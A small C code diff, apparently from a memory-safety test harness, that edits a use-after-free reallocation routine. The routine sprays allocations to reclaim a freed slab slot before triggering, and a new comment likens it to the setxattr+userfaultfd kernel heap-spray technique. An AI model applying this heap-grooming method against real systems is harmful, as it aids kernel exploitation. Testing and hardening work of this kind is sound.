@@ -314,7 +314,7 @@ static int run_heap_neighbour(struct ctx *c)
 static int run_uaf_realloc(struct ctx *c)
 {
 	unsigned char filler[sizeof(struct atk_ring)];
-	const void *spray[TH_SPRAY_COUNT];
+	const void *spray[TH_SPRAY_COUNT];	/* kept allocated, like setxattr+userfaultfd */
 	int hit = -1;
 
 	if (create_ring(c))
@@ -343,7 +343,6 @@ static int run_uaf_realloc(struct ctx *c)
 			th_slab_kasan() ? "none got the freed slot (KASAN quarantine)" :
 					  "none got the freed slot");
 	}
-	(void)spray;
 	landed(c);
 	trigger(c);
 	return 0;
